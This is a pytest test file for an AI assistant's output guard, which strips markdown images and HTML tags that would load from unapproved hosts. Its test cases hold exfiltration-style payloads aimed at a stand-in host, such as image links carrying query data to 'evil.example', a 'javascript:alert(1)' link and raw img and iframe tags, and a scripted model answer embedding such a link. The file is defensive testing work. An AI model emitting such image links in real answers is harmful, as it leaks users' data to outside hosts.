"""What goes out: nothing that a reader's program would load from elsewhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.assistant import open_assistant
from agent.events import TextDelta
from agent.guards import OutputGuard
from agent.models.scripted import ScriptedModel, call, say
from agent.settings import Settings
from tools.sources import Source


def guarded(text: str, size: int = 10_000) -> tuple[str, list[str]]:
    guard = OutputGuard(lambda: {"known.example"})
    pieces = [guard.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*pieces, guard.finish()]), guard.blocked


CASES = [
    ("Plain text, 3 < 4 [sic] and an array[0]! Done!", None),
    ("A picture ![Lima](https://known.example/a.png) of it.", None),
    ("See [the page](https://known.example/x) and [1].", None),
    ("See [below](#part) or [there](part.html).", None),
    ("`![x](https://evil.example/?q=1)` is code.", None),
    ("```\n![x](https://evil.example/?q=1)\n<img src=x>\n```\nAfter.", None),
    ("List:\n- [ ] to do\n- [x] done\n", None),
    ("<b>bold</b> and <https://other.example/> and a < b", None),
    ("![secret](https://evil.example/?q=42)", "secret (not loaded: evil.example)"),
    ("![](https://evil.example/a)", "picture (not loaded: evil.example)"),
    ("![a](//evil.example/a)", "a (not loaded: evil.example)"),
    ("![a](<https://evil.example/a>)", "a (not loaded: evil.example)"),
    ('![a](https://evil.example/a "title")', "a (not loaded: evil.example)"),
    ("![a](data:image/png;base64,AAAA)", "a (not loaded: no address)"),
    ("![a](https://known.example.evil.example/a)", "a (not loaded: known.example.evil.example)"),
    ("![a](https://known.example@evil.example/a)", "a (not loaded: evil.example)"),
    ("![a](https:\\\\evil.example/a)", "a (not loaded: no address)"),
    ("[here](https://evil.example/?q=42)", "here (https://evil.example/?q=42)"),
    ("[js](javascript:alert(1))", "js (javascript:alert(1))"),
    ("![a][r]\n\n[r]: https://evil.example/a\n", "![a][r]\n\nr: https://evil.example/a\n"),
    ("![a\nb](https://evil.example/a)", "a\nb (not loaded: evil.example)"),
    ("![a](\n  https://evil.example/a)", "a (not loaded: evil.example)"),
    (
        "[![a](https://evil.example/a)](https://evil.example/b)",
        "[a (not loaded: evil.example)](https://evil.example/b)",
    ),
    ("![a][r]\n\n[r]:\n  https://evil.example/a", "![a][r]\n\nr: https://evil.example/a"),
    ("[r]: https://known.example/a\n", None),
    ("Note[1]: it is so.", None),
    ('Look: <img src="https://evil.example/a">.', "Look: (HTML left out)."),
    ("<IMG\nsrc=x>", "(HTML left out)"),
    ("<iframe src=x></iframe>", "(HTML left out)</iframe>"),
]


@pytest.mark.parametrize(("text", "safe"), CASES)
def test_what_would_load_something_is_replaced_and_all_else_stays(
    text: str, safe: str | None
) -> None:
    shown, _ = guarded(text)
    assert shown == (text if safe is None else safe)


@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize(("text", "safe"), CASES)
def test_pieces_of_any_size_come_to_the_same(text: str, safe: str | None, size: int) -> None:
    assert guarded(text, size) == guarded(text)


def test_text_that_begins_no_link_is_not_held_back() -> None:
    guard = OutputGuard(set)
    assert guard.feed("The first words") == "The first words"
    assert guard.feed(" and [") == " and "
    assert guard.feed("1] more") == "[1] more"


async def test_an_answer_never_carries_a_picture_of_a_strange_host(tmp_path: Path) -> None:
    def page() -> tuple[str, list[Source]]:
        """Read the page."""
        return "text", [Source("T", "https://known.example/p")]

    from langchain_core.tools import StructuredTool

    tool = StructuredTool.from_function(page, response_format="content_and_artifact")
    answer = "![ok](https://known.example/a.png) ![x](https://evil.example/?q=secret)"
    model = ScriptedModel([call("page"), say(answer)])
    settings = Settings(home=tmp_path, builtin_tools=())
    async with open_assistant(settings, tools=[tool], model=model) as assistant:
        stream = assistant.stream("read it", user_id="ana", thread_id="t")
        events = [event async for event in stream]
        shown = "".join(e.text for e in events if isinstance(e, TextDelta))
        turn = events[-1].turn  # type: ignore[union-attr]
        history = await assistant.history(user_id="ana", thread_id="t")
    safe = "![ok](https://known.example/a.png) x (not loaded: evil.example)"
    assert shown == turn.answer == history[-1]["content"] == safe
    assert any("evil.example" in notice for notice in turn.notices)
